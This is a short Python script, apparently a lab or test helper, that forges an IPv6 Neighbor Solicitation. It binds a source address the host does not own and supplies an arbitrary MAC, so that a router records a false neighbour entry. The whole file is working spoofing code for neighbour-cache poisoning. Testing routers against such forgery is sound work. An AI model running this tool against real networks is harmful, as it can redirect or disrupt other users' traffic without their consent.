"""One forged Neighbor Solicitation, as any host on a LAN can send it (no MAC spoofing).

    python forge_ns.py SOURCE MAC TARGET

Run inside a LAN host's namespace: sends one NS (RFC 4861 4.3) for TARGET (the router's
own address) to TARGET, from SOURCE, which the host does not hold (any address, inside the
LAN's prefix or not), with MAC in its source link-layer address option. The Ethernet frame
leaves from the host's own MAC; the router's kernel takes SOURCE and the option's MAC and
holds them as a STALE neighbour entry. A raw ICMPv6 socket (the kernel adds the checksum);
hop limit 255, as neighbour discovery requires; IPV6_FREEBIND/IPV6_TRANSPARENT let it bind
an address it does not have.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys

IPV6_TRANSPARENT, IPV6_FREEBIND = 75, 78
ND_NEIGHBOR_SOLICIT, ND_OPT_SOURCE_LINKADDR = 135, 1


def solicitation(target: str, mac: str) -> bytes:
    option = struct.pack("!BB", ND_OPT_SOURCE_LINKADDR, 1) + bytes.fromhex(mac.replace(":", ""))
    return struct.pack("!BBHI", ND_NEIGHBOR_SOLICIT, 0, 0, 0) + ipaddress.IPv6Address(target).packed + option


def main(source: str, mac: str, target: str) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.bind((source, 0))
        s.sendto(solicitation(target, mac), (target, 0))


if __name__ == "__main__":
    main(*sys.argv[1:4])
